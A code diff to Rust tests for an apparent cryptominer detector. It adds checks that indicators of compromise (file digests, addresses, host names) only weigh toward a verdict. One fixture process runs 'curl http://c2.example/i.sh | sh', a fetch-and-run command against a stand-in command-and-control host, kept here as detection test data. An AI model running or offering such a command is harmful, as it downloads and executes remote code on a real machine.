@@ -16,8 +16,10 @@ pub(crate) fn shipped_verdict(processes: Vec<ProcessRow>, starters: Vec<Starter>
     let params = Params {
         processes,
         starters,
+        units: Units::default(),
         sockets,
         pools: Vec::new(),
+        indicators: Vec::new(),
         boot_id: "boot".to_owned(),
         rules: shipped_resource(),
     };
@@ -26,6 +28,7 @@ pub(crate) fn shipped_verdict(processes: Vec<ProcessRow>, starters: Vec<Starter>
 
 fn params(rows: Vec<ProcessRow>) -> Params {
     Params {
+        units: Units::default(),
         processes: rows,
         starters: vec![
             starter(
@@ -62,12 +65,13 @@ fn params(rows: Vec<ProcessRow>) -> Params {
             connection("198.51.100.7", 3333, 220),
         ],
         pools: vec!["203.0.113.9".to_owned()],
+        indicators: Vec::new(),
         boot_id: "boot".to_owned(),
         rules: shipped_resource(),
     }
 }
 
-const WALLET: &str = wallet::EXAMPLE;
+const WALLET: &str = crate::wallet::EXAMPLE;
 pub(crate) const EXAMPLE_WALLET: &str = WALLET;
 
 fn table() -> Vec<(&'static str, Row, ProcessVerdict)> {
@@ -655,4 +659,75 @@ fn only_a_process_of_which_nothing_runs_has_ended() {
     for (change, expected) in cases {
         assert_eq!(verdict(change), expected);
     }
+}
+
+#[test]
+fn indicators_of_an_alarm_weigh_and_never_condemn_alone() {
+    let tmp = Row::runs(300, "/tmp/.cache/agent", &["agent"]);
+    let quiet = Row::runs(301, "/opt/agent/agent", &["agent"]);
+    let shell = Row::runs(302, "/usr/bin/dash", &["sh", "-c", "curl http://c2.example/i.sh | sh"]).packaged();
+    let grep = Row::runs(303, "/usr/bin/grep", &["grep", "c2.example", "/var/log/x"]).packaged();
+    let honest = Row::runs(305, "/opt/client/client", &["client", "198.51.100.7:8443"]).cpu(90);
+    let owned = Row::runs(304, "/usr/bin/gzip", &["gzip"]).packaged().cpu(90);
+    let digest = |path: &str| deminer_worker::text::Digest::of(path.as_bytes()).to_string();
+    use ProcessVerdict::{Clean, Miner, Suspect};
+    // Who runs, what the alarm names, what comes of it.
+    let cases: [(&str, &Row, Vec<String>, ProcessVerdict); 10] = [
+        ("nothing named", &quiet, vec![], Clean),
+        (
+            "its file, in a hidden temporary place, deleted and busy",
+            &tmp,
+            vec![digest("/tmp/.cache/agent")],
+            Miner,
+        ),
+        (
+            "its file, in an ordinary place",
+            &quiet,
+            vec![digest("/opt/agent/agent")],
+            Suspect,
+        ),
+        ("another file", &quiet, vec![digest("/opt/agent/other")], Clean),
+        ("a package's own file", &owned, vec![digest("/usr/bin/gzip")], Suspect),
+        ("its connection", &quiet, vec!["198.51.100.0/24".to_owned()], Suspect),
+        (
+            "its connection at another port",
+            &quiet,
+            vec!["198.51.100.7:4444".to_owned()],
+            Clean,
+        ),
+        (
+            "its connection and the word for it, busy: one thing",
+            &honest,
+            vec!["198.51.100.7".to_owned()],
+            Suspect,
+        ),
+        (
+            "a name in its arguments",
+            &shell,
+            vec!["c2.example".to_owned()],
+            Suspect,
+        ),
+        ("a name that it looks for", &grep, vec!["c2.example".to_owned()], Clean),
+    ];
+    for (name, row, indicators, expected) in cases {
+        let mut row = row.clone().build();
+        if name.contains("deleted") {
+            row.process.exe.as_mut().expect("it runs a file").deleted = true;
+            row.process.cpu_centi = Some(9000);
+        }
+        let pid = row.process.pid;
+        let mut given = params(vec![row]);
+        given.sockets = vec![connection("198.51.100.7", 8443, pid)];
+        given.indicators = indicators;
+        let (outcome, _) = judge(&given, &shipped());
+        let verdict = outcome.output.rows.first().map_or(Clean, |row| row.verdict);
+        assert_eq!(verdict, expected, "{name}: {:?}", outcome.output.rows);
+    }
+    let mut given = params(vec![quiet.build()]);
+    given.indicators = vec!["d41d8cd98f00b204e9800998ecf8427e".to_owned()];
+    let (outcome, _) = judge(&given, &shipped());
+    assert_eq!(
+        outcome.coverage.gaps[0].subject, "indicator",
+        "what is not looked for is said"
+    );
 }
